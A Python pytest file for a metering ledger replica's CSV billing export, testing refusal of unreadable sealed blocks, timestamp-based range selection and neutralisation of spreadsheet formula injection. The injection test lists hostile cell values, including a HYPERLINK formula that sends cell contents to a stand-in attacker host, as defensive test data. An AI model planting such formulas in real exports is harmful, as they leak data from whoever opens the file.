"""Billing exports: unreadable sealed blocks found before streaming, formula injection."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from pathlib import Path

import nacl.signing
import pytest

from ledger import Block, Reading, block_readings, header_hash, seal_block
from replica.config import Limits
from replica.csvexport import neutralise
from tests.replica.conftest import RunningReplica, enroll
from tests.support.chains import make_chain, signing_seed, utility_keypair

SEED = b"export-gw"


def key_file(tmp_path: Path) -> Path:
    sk, _ = utility_keypair()
    p = tmp_path / "utility.key"
    p.write_text(f"meterchain-x25519-secret-key-v1\n{sk.hex()}\n")
    p.chmod(0o600)
    return p


def contradicting(block: Block, other: Block) -> Block:
    """``block``'s header carrying ``other``'s sealed payload (hash updated, re-signed):
    valid to every replica without the key, yet its readings contradict the Merkle root."""
    header = dataclasses.replace(block.header, payload_hash=other.header.payload_hash)
    sk = nacl.signing.SigningKey(signing_seed(SEED))
    return Block(header, sk.sign(header_hash(header.encode())).signature, other.payload)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_unreadable_sealed_blocks_are_refused_before_any_byte(
        make_replica: Callable[..., RunningReplica], tmp_path: Path) -> None:
    sk, pk = utility_keypair()
    _, stranger = utility_keypair(b"another utility")
    rep = make_replica(Limits(), key_file(tmp_path))
    key = enroll(rep.storage, SEED)
    chain = make_chain(SEED, 2, 3, recipient_key=pk)
    chain += make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=stranger)  # height 2
    chain += make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk)        # height 3
    last = make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk)[0]
    decoy = make_chain(SEED, 1, 3, prev=chain[-1], recipient_key=pk, meter_id="decoy")[0]
    chain.append(contradicting(last, decoy))                                 # height 4
    r = rep.push(key, chain)
    assert r.status_code == 200, r.text  # sealed: the replica cannot see it is wrong

    path = f"/v1/gateways/{key.hex()}/readings.csv"
    r = rep.http.get(path)
    assert r.status_code == 422, r.text[:200]
    body = r.json()
    assert (body["error"], body["heights"], body["count"]) == ("unreadable-blocks", [2, 4], 2)

    r = rep.http.get(path, params={"skip_unreadable": "1"})  # explicitly: the rest
    assert r.status_code == 200
    assert r.headers["x-meterchain-omitted-count"] == "2"
    assert r.headers["x-meterchain-omitted-heights"] == "2,4"
    got = rows(r.text)
    want = [rd for b in (chain[0], chain[1], chain[3]) for rd, _ in block_readings(b, sk)]
    assert [(int(x["height"]), x["meter_id"], int(x["timestamp_ms"])) for x in got] == [
        (h, rd.meter_id, rd.timestamp_ms) for h, rd in
        zip([0] * 3 + [1] * 3 + [3] * 3, want, strict=True)]
    # a block this replica cannot open may hold readings of any time: it counts in every
    # range; block 4 opened at push, so its readings' span is known and elsewhere
    r = rep.http.get(path, params={"to_ms": chain[2].header.time_start_ms})
    assert r.status_code == 422 and r.json()["heights"] == [2]

    for height in (2, 4):  # proofs: a clear 422, never a 500
        r = rep.http.get(f"/v1/gateways/{key.hex()}/proof",
                         params={"height": height, "index": 0})
        assert r.status_code == 422 and r.json()["error"] == "unreadable-block", r.text[:200]
        assert r.json()["height"] == height


def test_formula_cells_are_neutralised(replica: RunningReplica) -> None:
    key = enroll(replica.storage, SEED)
    # (tab and CR cannot reach a meter id: the ledger refuses control characters)
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "ok=1"]
    chain: list[Block] = []
    for i, meter in enumerate(evil):
        chain += make_chain(SEED, 1, 1, prev=chain[-1] if chain else None, meter_id=meter,
                            start_ms=1_000_000 + i)
    assert replica.push(key, chain).status_code == 200
    got = rows(replica.http.get(f"/v1/gateways/{key.hex()}/readings.csv").text)
    assert [x["meter_id"] for x in got] == ["'" + m for m in evil[:-1]] + ["ok=1"]
    assert neutralise("-1.5") == "'-1.5" and neutralise("1-0:1.8.0") == "1-0:1.8.0"
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    # numbers stay numbers: a negative value's decimal column is not text
    assert all(not x["decimal"].startswith("'") for x in got)


HOUR = 3_600_000
T = 1_767_225_600_000  # 2026-01-01T00:00:00Z


def edge_chain(recipient: bytes | None) -> tuple[list[Block], dict[str, int]]:
    """Blocks whose readings lie outside their own collection window, near hour edges."""
    stamps = {"late-prev-hour": T - 30_000, "first": T, "last-of-hour": T + HOUR - 1,
              "next-hour": T + HOUR, "late": T + HOUR + 5}
    windows = [  # (window, the readings' names): readings need not lie in the window
        ((T, T + HOUR - 1), ["late-prev-hour", "first"]),  # stamped 30 s before it opens
        ((T + HOUR - 1, T + HOUR + 10), ["last-of-hour", "next-hour", "late"]),
    ]
    blocks: list[Block] = []
    for (t0, t1), names in windows:
        readings = [Reading.make(name, "1-0:1.8.0", 1000 + i, 0, "Wh", stamps[name])
                    for i, name in enumerate(names)]
        salts = [bytes([len(blocks), i]) * 8 for i in range(len(readings))]
        blocks.append(seal_block(signing_seed(SEED), blocks[-1].header if blocks else None,
                                 readings, salts, t0, t1, recipient_key=recipient,
                                 ephemeral_sk=bytes([7 + len(blocks)]) * 32 if recipient
                                 else None))
    return blocks, stamps


@pytest.mark.parametrize("sealed", [False, True])
def test_readings_are_selected_by_their_own_timestamp(
        make_replica: Callable[..., RunningReplica], tmp_path: Path, sealed: bool) -> None:
    _, pk = utility_keypair()
    rep = make_replica(Limits(max_future_skew_ms=0), key_file(tmp_path))
    key = enroll(rep.storage, SEED)
    chain, stamps = edge_chain(pk if sealed else None)
    assert rep.push(key, chain).status_code == 200, rep.push(key, chain).text

    def export(lo: int, hi: int) -> list[str]:
        r = rep.http.get(f"/v1/gateways/{key.hex()}/readings.csv",
                         params={"from_ms": lo, "to_ms": hi})
        assert r.status_code == 200, r.text[:200]
        return [x["meter_id"] for x in rows(r.text)]

    # the hour before T holds one reading, sealed in a block whose window opens at T
    assert export(T - HOUR, T) == ["late-prev-hour"]
    assert export(T, T + HOUR) == ["first", "last-of-hour"]
    assert export(T + HOUR, T + 2 * HOUR) == ["next-hour", "late"]
    assert export(stamps["late-prev-hour"], stamps["late-prev-hour"] + 1) == ["late-prev-hour"]
    assert export(T + HOUR - 1, T + HOUR) == ["last-of-hour"]  # half-open at both edges
    assert export(T - HOUR, T - 30_000) == []
    assert export(0, 2**63 - 1) == list(stamps)
